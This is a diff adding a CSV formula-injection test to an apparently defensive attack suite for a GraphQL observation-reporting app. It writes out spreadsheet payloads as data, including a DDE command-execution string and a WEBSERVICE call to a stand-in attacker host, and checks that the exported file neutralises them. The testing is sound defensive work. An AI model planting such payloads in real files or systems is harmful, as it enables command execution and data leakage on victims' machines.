@@ -1,10 +1,14 @@
 /** Attacks by what is meant for another reader: the database, the log, the program itself. */
+import { parse } from 'csv-parse/sync';
+import { addDays, sofiaDay } from '../../../../schema/rules/days.ts';
 import { refusedBy, type Attack } from '../attack.ts';
 import { answerOf, ask, send } from '../raw-request.ts';
 
 const JSON_BODY = { 'content-type': 'application/json' };
 
 const PREFLIGHT = { 'apollo-require-preflight': '1' };
+
+const FORMULAS = ['=1+1', '+1+1', '-1+1', '@SUM(1)', `=cmd|' /C calc'!A0`, '=WEBSERVICE("http://evil.example/")'];
 
 const isPolluted = (): boolean =>
   'polluted' in {} || (Object.prototype as Record<string, unknown>)['isAdmin'] !== undefined;
@@ -35,6 +39,40 @@ export const injectionAttacks: readonly Attack[] = [
     ],
     complaint: (answers) =>
       answers.map((answer) => refusedBy('BAD_INPUT', 'query')([answer])).find((each) => each !== null) ?? null,
+  },
+  {
+    name: 'formulas in a file that is taken out in bulk',
+    run: async ({ address }, { app, cookieOf, measureId, municipality, people }) => {
+      for (const words of FORMULAS) {
+        const id = crypto.randomUUID();
+        const day = addDays(sofiaDay(new Date()), -70);
+        const seen = { id, measureId, level: 'LIMITED', dontKnow: false, method: 'MEETING', seenOn: day, words };
+        await app.ask('mutation ($input: SubmitObservationInput!) { submitObservation(input: $input) { receipt } }', {
+          as: people.monitor,
+          variables: { input: seen },
+        });
+        await app.ask('mutation ($input: DecideObservationInput!) { decideObservation(input: $input) { id } }', {
+          as: people.verifier,
+          variables: { input: { observationId: id, decision: 'VERIFIED', revealingReason: 'Проба' } },
+        });
+      }
+      const headers = { cookie: await cookieOf('exporter') };
+      const asked = await ask(
+        address,
+        `mutation { askObservationExport(input: { territory: "${municipality.code}", format: CSV, reason: "=HYPERLINK(1) за проба" }) { address } }`,
+        { headers },
+      );
+      const { data } = JSON.parse(asked.body) as { data: { askObservationExport: { address: string } } };
+      return [await send(address, { method: 'GET', path: data.askObservationExport.address, headers })];
+    },
+    complaint: ([file]) => {
+      const table: string[][] = parse(file?.body ?? '', { bom: true });
+      const cells = table.flat();
+      const found = FORMULAS.filter((formula) => cells.some((cell) => cell.includes(formula)));
+      if (found.length < FORMULAS.length) return `the file lacks what was written: ${found.join(' ')}`;
+      const live = cells.filter((cell) => /^\s*[=+\-@]/.test(cell));
+      return live.length === 0 ? null : `a spreadsheet would run ${live.join(' ')}`;
+    },
   },
   {
     name: 'lines forged in the log',
